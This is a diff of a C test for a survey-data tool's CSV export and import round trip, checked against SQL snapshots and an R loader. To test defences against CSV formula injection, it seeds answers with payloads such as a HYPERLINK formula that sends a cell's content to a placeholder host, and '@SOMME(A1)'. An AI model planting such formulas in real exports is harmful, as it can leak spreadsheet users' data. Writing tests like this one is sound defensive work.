@@ -361,44 +361,76 @@ export_to(const char *dir)
 	return n;
 }
 
-/* The CSV at path without its first column (the response ids), as
- * parsed rows joined back (static buffer, caller frees). */
-static char *
-without_ids(const char *path)
+/* Every answer of the study with what identifies its response but the
+ * id, as SQL returns it: the table answers_NAME. */
+static void
+snapshot_answers(const char *name)
 {
-	struct msp_error err;
-	struct buf out = BUF_INIT;
-	struct csv *csv = NULL;
-	char *text;
-	size_t len, i, j;
+	char sql[1024];
 
-	ck_assert_int_eq(file_read(path, 64 << 20, &text, &len, &err),
-			 MSP_OK);
-	ck_assert_msg(csv_parse(text, len, ',', &csv, &err) == MSP_OK, "%s",
-		      err.message);
-	for (i = 0; i < csv->n_rows; i++) {
-		for (j = 1; j < csv->rows[i].n; j++)
-			buf_printf(&out, "%s\x1f", csv->rows[i].fields[j]);
-		buf_putc(&out, '\n');
-	}
-	csv_free(csv);
-	free(text);
-	return buf_steal(&out);
+	snprintf(sql, sizeof(sql),
+		 "CREATE TEMPORARY TABLE answers_%s AS"
+		 " SELECT st.pseudonym, r.respondent_role, r.status,"
+		 "        r.submitted_at, a.item_key, a.choice_code,"
+		 "        a.num_value, a.text_value, a.bool_value"
+		 "   FROM msp.answer a JOIN msp.response r USING (response_id)"
+		 "   JOIN msp.structure st USING (structure_id)"
+		 "   JOIN msp.study s USING (study_id)"
+		 "  WHERE s.slug = '" STUDY "'", name);
+	exec_sql(sql);
 }
 
+/* The first row of a EXCEPT ALL b, as text, or "" (static). */
+static const char *
+first_missing(const char *a, const char *b)
+{
+	static char row[2048];
+	char sql[512];
+	PGresult *res;
+
+	snprintf(sql, sizeof(sql), "SELECT x::text FROM"
+		 " (TABLE pg_temp.answers_%s"
+		 " EXCEPT ALL TABLE pg_temp.answers_%s) x LIMIT 1", a, b);
+	res = PQexec(db.conn, sql);
+	ck_assert_msg(PQresultStatus(res) == PGRES_TUPLES_OK, "%s",
+		      PQerrorMessage(db.conn));
+	snprintf(row, sizeof(row), "%s", PQntuples(res) > 0
+		 ? PQgetvalue(res, 0, 0) : "");
+	PQclear(res);
+	return row;
+}
+
+/*
+ * The round trip, compared with what the database held (not with a
+ * second export, which would share every bug of the first): texts that
+ * the CSV neutralises against formulas, one that reads like a missing
+ * code, yes/no answers both ways, items not asked and not answered.
+ */
 START_TEST(export_then_import_gives_the_same_answers)
 {
-	char dir[] = "/tmp/msp-export-XXXXXX", sub[64], path[128];
-	char *first, *second, *map, *csv;
+	char dir[] = "/tmp/msp-export-XXXXXX", path[128];
+	char *map, *csv;
 	struct import_options o = { .study = STUDY };
 	struct import_result res;
 	struct msp_error err;
 	size_t n, map_len, csv_len;
-	long answers = count("SELECT count(*) FROM msp.answer a JOIN"
-			     " msp.response r USING (response_id) JOIN"
-			     " msp.study s USING (study_id)"
-			     " WHERE s.slug = '" STUDY "'");
 
+	/* the first five texts of def_usager, made hostile */
+	exec_sql("UPDATE msp.answer a SET text_value = v.t FROM ("
+		 " SELECT answer_id, (ARRAY["
+		 "  '=HYPERLINK(\"http://x/?\"&A2,\"cliquez\")', '-1',"
+		 "  '''entre quotes''', '@SOMME(A1)', E'\\tdécalé'])"
+		 "  [row_number() OVER (ORDER BY answer_id)] AS t"
+		 "  FROM msp.answer WHERE item_key = 'def_usager'"
+		 "  ORDER BY answer_id LIMIT 5) v"
+		 " WHERE a.answer_id = v.answer_id");
+	ck_assert_int_eq(count("SELECT count(*) FROM msp.answer WHERE"
+			       " text_value ~ E'^[-=@\\t'']'"), 5);
+	ck_assert_int_gt(count("SELECT count(*) FROM msp.answer WHERE"
+			       " bool_value"), 0);
+	ck_assert_int_gt(count("SELECT count(*) FROM msp.answer WHERE"
+			       " NOT bool_value"), 0);
+	snapshot_answers("before");
 	ck_assert_ptr_nonnull(mkdtemp(dir));
 	n = export_to(dir);
 	ck_assert_int_eq((long)n, count(
@@ -422,32 +454,29 @@ START_TEST(export_then_import_gives_the_same_answers)
 	import_result_clear(&res);
 	free(map);
 	free(csv);
-	ck_assert_int_eq(count("SELECT count(*) FROM msp.answer a JOIN"
-			       " msp.response r USING (response_id) JOIN"
-			       " msp.study s USING (study_id)"
-			       " WHERE s.slug = '" STUDY "'"), answers);
-	/* every cell but the new ids is the same: pseudonyms, roles,
-	 * status, submission times, answers */
-	snprintf(sub, sizeof(sub), "%s/again", dir);
-	ck_assert_int_eq(mkdir(sub, 0700), 0);
-	ck_assert_uint_eq(export_to(sub), n);
-	first = without_ids(path);
-	snprintf(path, sizeof(path), "%s/" STUDY ".csv", sub);
-	second = without_ids(path);
-	ck_assert_str_eq(first, second);
-	free(first);
-	free(second);
-	/* base R reads it with labelled factors, when R is here */
-	if (system("command -v Rscript >/dev/null 2>&1") == 0) {
+	/* every answer back, with its response's pseudonym, role,
+	 * status and submission time; nothing more */
+	snapshot_answers("after");
+	ck_assert_str_eq(first_missing("before", "after"), "");
+	ck_assert_str_eq(first_missing("after", "before"), "");
+	/* base R reads it with labelled factors and the texts as they
+	 * were typed (./dev installs R: no skipping) */
+	{
 		char cmd[1024];
 
 		snprintf(cmd, sizeof(cmd),
-			 "cd '%s' && Rscript -e 'source(\"" STUDY ".R\");"
+			 "cd '%s' && LC_ALL=C.UTF-8 Rscript -e 'source(\""
+			 STUDY ".R\");"
 			 " stopifnot(nrow(responses) == %zu,"
 			 " identical(levels(responses$structure_type),"
 			 " c(\"ESP (\\u00e9quipe de soins primaires)\","
-			 " \"MSP (maison de sant\\u00e9 pluriprofessionnelle)\")),"
+			 " \"MSP (maison de sant\\u00e9"
+			 " pluriprofessionnelle)\")),"
 			 " is.numeric(responses$prof_count_total),"
+			 " \"=HYPERLINK(\\\"http://x/?\\\"&A2,"
+			 "\\\"cliquez\\\")\""
+			 " %%in%% responses$def_usager,"
+			 " \"-1\" %%in%% responses$def_usager,"
 			 " grepl(\"usager\", attr(responses$def_usager,"
 			 " \"label\")))' >/dev/null", dir, n);
 		ck_assert_int_eq(system(cmd), 0);
